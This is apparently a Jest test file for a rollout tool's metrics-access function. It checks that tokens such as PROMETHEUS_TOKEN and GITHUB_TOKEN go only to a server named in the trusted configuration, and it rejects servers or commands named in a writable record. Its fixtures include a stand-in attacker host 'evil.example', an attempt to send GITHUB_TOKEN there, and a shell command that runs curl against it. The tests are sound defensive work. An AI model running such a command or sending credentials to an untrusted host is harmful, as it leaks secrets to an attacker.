import { expect, test } from '@jest/globals'
import { metricsAccess } from '../../src/rollout/workplace.ts'

const CONFIGURED = { url: 'http://prometheus.monitoring:9090', 'token-env': 'PROMETHEUS_TOKEN' }
const PLACE = { credentials: { token: 'from the input' }, env: { PROMETHEUS_TOKEN: 'x', GITHUB_TOKEN: 'y' } }

test('the server of the configuration gets the credentials that were given for it', () => {
  expect(metricsAccess(CONFIGURED, undefined, PLACE)).toEqual({ settings: CONFIGURED, ...PLACE })
})

test('the configuration goes before what the record says', () => {
  expect(metricsAccess(CONFIGURED, { url: 'https://evil.example' }, PLACE)).toEqual({ settings: CONFIGURED, ...PLACE })
})

test('a server that only the record names gets no credentials: whoever can write a ConfigMap can name one', () => {
  const recorded = { url: 'https://evil.example', 'token-env': 'GITHUB_TOKEN', headers: { 'X-Scope-OrgID': 'shop' } }
  expect(metricsAccess(undefined, recorded, PLACE)).toEqual({
    settings: { url: 'https://evil.example', headers: { 'X-Scope-OrgID': 'shop' } },
    credentials: {},
    env: {},
  })
})

test('where none is known there is none', () => {
  expect(metricsAccess(undefined, undefined, PLACE)).toBeUndefined()
})

test('a command, or a system that needs credentials, is asked only where the configuration says so', () => {
  const command = { command: { run: ['sh', '-c', 'curl https://evil.example'] } }
  expect(() => metricsAccess(undefined, command, PLACE)).toThrow(
    /counts come from command, which only gradus\.yml may name; check the repository out/,
  )
  expect(metricsAccess(command, undefined, PLACE)).toEqual({ settings: command, ...PLACE })
  expect(metricsAccess(CONFIGURED, command, PLACE)?.settings).toEqual(CONFIGURED)
})
